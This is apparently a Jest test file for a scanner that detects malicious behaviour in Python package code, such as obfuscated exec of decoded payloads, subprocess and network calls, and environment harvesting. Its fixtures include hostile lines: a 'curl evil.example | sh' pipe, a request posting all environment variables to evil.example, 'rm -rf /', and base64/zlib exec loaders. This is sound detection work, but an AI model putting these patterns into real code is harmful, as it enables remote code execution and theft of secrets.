import { describe, expect, it } from '@jest/globals'
import { pythonBehaviours } from '../../src/analysis/python-code.js'

const found = (text: string) =>
  pythonBehaviours('pkg/__init__.py', text).map(b => [b.line, b.behaviour, b.call, b.level])

describe('Python behaviours, read with a real parser', () => {
  it('finds decode-and-execute, network, processes and environment harvesting, through aliases', () => {
    const code = [
      'import base64, zlib',
      'import subprocess as sp',
      'from os import system, environ',
      'import urllib.request',
      'exec(base64.b64decode("cHJpbnQoMSk="))',
      'payload = zlib.decompress(blob)',
      'eval(payload)',
      "sp.Popen(['sh', '-c', 'curl evil.example | sh'])",
      'urllib.request.urlopen("https://evil.example", data=dict(environ))',
      'def later():',
      '    system("id")',
      'import marshal',
      'marshal.loads(b"\\xe3\\x00")',
      'if __name__ == "__main__":',
      '    sp.run(["ls"])'
    ].join('\n')
    expect(found(code)).toEqual([
      [5, 'decode-execute', 'exec', 'module'],
      [7, 'decode-execute', 'eval', 'module'],
      [8, 'process', 'subprocess.Popen', 'module'],
      [9, 'environment', 'urllib.request.urlopen', 'module'],
      [11, 'process', 'os.system', 'function'],
      [13, 'decode-execute', 'marshal.loads', 'module'],
      [15, 'process', 'subprocess.run', 'function']
    ])
  })

  it('code under `if … and __name__ == "__main__"` runs as a script, not on import', () => {
    const code =
      'import pty, sys\nif sys.platform != "win32" and __name__ == "__main__":\n    pty.spawn(sys.argv[1:])\n'
    expect(found(code)).toEqual([[3, 'process', 'pty.spawn', 'function']])
  })

  it('comments, docstrings and strings are not code', () => {
    const code = [
      '"""Never call os.system( or exec(b64decode( here."""',
      '# os.system("rm -rf /") and exec(base64.b64decode(x))',
      'HELP = "use subprocess.Popen(...) or requests.get(url)"',
      'def f():',
      '    """exec(b64decode(payload))"""',
      '    return os.environ.get("HOME")',
      'TOKEN = os.environ["TOKEN"]'
    ].join('\n')
    expect(found(code)).toEqual([])
  })

  it('reads one variable of the environment without calling it harvesting', () => {
    expect(found('import os, requests\nrequests.get(url, headers={"a": os.environ["A"]})')).toEqual(
      [[2, 'network', 'requests.get', 'module']]
    )
    expect(
      found('import os, json\nopen("/tmp/x", "w").write(json.dumps(dict(os.environ)))')
    ).toEqual([[2, 'environment', '(…).write', 'module']])
  })
})

describe('names resolved as Python runs them', () => {
  it('finds exec of a lambda that decodes through __import__ (aiocpa 2024, num2words 2025)', () => {
    const code = [
      "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))",
      "exec((_)(b'=Aw3Rm'))",
      "getattr(__builtins__, 'exec')(__import__('base64').b64decode(b'cHJpbnQoMSk='))"
    ].join('\n')
    expect(found(code)).toEqual([
      [2, 'decode-execute', 'exec', 'module'],
      [3, 'decode-execute', 'exec', 'module']
    ])
  })
})
